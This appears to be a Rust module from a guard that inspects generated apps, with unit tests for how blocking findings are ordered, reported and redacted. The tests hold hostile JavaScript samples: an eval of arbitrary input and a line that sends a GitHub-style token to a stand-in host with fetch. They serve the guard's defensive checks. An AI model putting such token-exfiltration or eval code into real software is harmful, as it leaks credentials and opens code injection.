//! What the guard said of a session's app: for its owner, and for the sandbox that it goes into. Pure.

use serde::{Deserialize, Serialize};

use crate::{
    guard::Verdict,
    types::{Category, Egress, Failure, Finding, Severity},
};

/// Findings that a session keeps and shows, what blocks first. One that has more is no better understood by all of them.
pub(super) const SHOWN_MAX: usize = 20;

/// What came of reading the app as it is now.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Inspection {
    /// At most [`SHOWN_MAX`]: what blocks, what warns, what is good to know.
    pub findings: Vec<Finding>,
    /// How many more there are.
    pub left_out: usize,
    pub blocked: bool,
    /// What its sandbox may reach.
    pub egress: Egress,
}

impl Inspection {
    #[must_use]
    pub(super) fn of(verdict: Verdict, egress: Egress) -> Self {
        let Verdict { mut findings, blocked, egress: _named } = verdict;
        findings
            .sort_by(|one, other| (one.severity, &one.file, one.line).cmp(&(other.severity, &other.file, other.line)));
        let left_out = findings.len().saturating_sub(SHOWN_MAX);
        findings.truncate(SHOWN_MAX);
        Self { findings, left_out, blocked, egress }
    }

    /// Why the guard does not let the app through, in the words of the first finding that blocks.
    #[must_use]
    pub(super) fn failure(&self) -> Option<Failure> {
        let first = self.findings.iter().find(|finding| finding.severity == Severity::Block);
        let why = first.map_or_else(|| "blocks: too many findings to list".to_owned(), Finding::described);
        let message = format!("the guard stopped the generated app; it {why}");
        self.blocked.then(|| Failure::new(BLOCKED, Category::User, message))
    }

    /// What blocks, a line each, for whoever mends it.
    #[must_use]
    pub(super) fn diagnostic(&self) -> String {
        let blocks = self.findings.iter().filter(|finding| finding.severity == Severity::Block);
        blocks.map(|finding| finding.described() + "\n").collect()
    }
}

/// The code of a session that failed since the guard stopped its app.
pub(super) const BLOCKED: &str = "artifact_blocked";

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        guard::{Policy, inspect_files},
        types::AppFile,
    };

    fn inspection(content: &str) -> Inspection {
        let files = [AppFile { path: "lib/a.js".to_owned(), content: content.to_owned() }];
        Inspection::of(inspect_files(&files, &Policy::default()), Egress::default())
    }

    #[test]
    fn a_blocked_app_says_rule_file_line_and_remedy() {
        let found = inspection("\nmodule.exports = (s) => eval(s);");
        let failure = found.failure().unwrap();
        assert_eq!(failure.code, BLOCKED);
        for part in ["code-eval", "lib/a.js, line 2", "use JSON"] {
            assert!(failure.message.contains(part), "{}", failure.message);
            assert!(found.diagnostic().contains(part), "{}", found.diagnostic());
        }
        assert_eq!(Inspection::default().failure(), None);
    }

    #[test]
    fn what_blocks_is_shown_first_and_the_rest_is_counted() {
        let finding = |severity, rule: String| Finding {
            rule,
            severity,
            file: None,
            line: None,
            why: String::new(),
            remedy: String::new(),
        };
        let mut findings: Vec<_> = (0..30).map(|number| finding(Severity::Warn, number.to_string())).collect();
        findings.push(finding(Severity::Block, "worst".to_owned()));
        let shown = Inspection::of(Verdict { findings, blocked: true, egress: Vec::new() }, Egress::default());
        assert_eq!((shown.findings.len(), shown.left_out, shown.findings[0].rule.as_str()), (SHOWN_MAX, 11, "worst"));
    }

    #[test]
    fn a_key_that_was_found_is_not_told() {
        let key = "ghp_a8Jk2Lm9Qw3Er7Ty5Ui1Op4As6Df0Gh2Jk8L";
        let found = inspection(&format!("const t = '{key}'; fetch('https://x.example?t={key}');"));
        assert!(found.blocked);
        let told = serde_json::to_string(&found).unwrap() + &found.failure().unwrap().message + &found.diagnostic();
        assert!(!told.contains(&key[4..20]), "{told}");
    }
}
